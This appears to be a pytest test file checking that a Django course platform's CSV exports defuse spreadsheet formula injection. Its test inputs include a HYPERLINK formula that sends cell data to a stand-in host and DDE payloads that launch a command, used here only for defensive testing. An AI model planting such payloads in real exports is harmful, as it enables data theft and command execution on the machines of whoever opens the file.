"""Every CSV export defuses spreadsheet formulas: the helper, the pass list end to end, and a
check that no export writes CSV around the helper."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.contrib.auth.models import User

from courses.models import Enrollment
from leaderboard.csv_export import safe_cell
from tests.platform.conftest import graded

ROOT = Path(__file__).resolve().parents[2]

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_it_prefixes_text_that_a_spreadsheet_would_run(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [3.5, -2, 0, "-Infinity", "Infinity", "-1.25", "alice", ""])
def test_it_keeps_numbers_and_plain_text_as_they_are(value):
    assert safe_cell(value) == value


def test_it_defuses_names_and_emails_in_the_pass_list(client, staff, challenge, semester):
    user = User.objects.create_user(username="=cmd|' /C calc'!A0", email="@evil.example")
    enrollment = Enrollment.objects.create(user=user, semester=semester, handle="-handle")
    graded(enrollment, challenge, 3.5)
    client.force_login(staff)

    response = client.get(f"/challenges/{challenge.slug}/staff/passes.csv")

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    row = next(r for r in rows if "cmd" in r[0])
    assert row[:4] == ["'=cmd|' /C calc'!A0", "'@evil.example", "'-handle", "3.5"]


def test_every_csv_export_goes_through_the_helper():
    writers = [
        path.relative_to(ROOT)
        for package in ("leaderboard", "submissions", "courses")
        for path in (ROOT / package).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert writers == [Path("leaderboard/csv_export.py")]
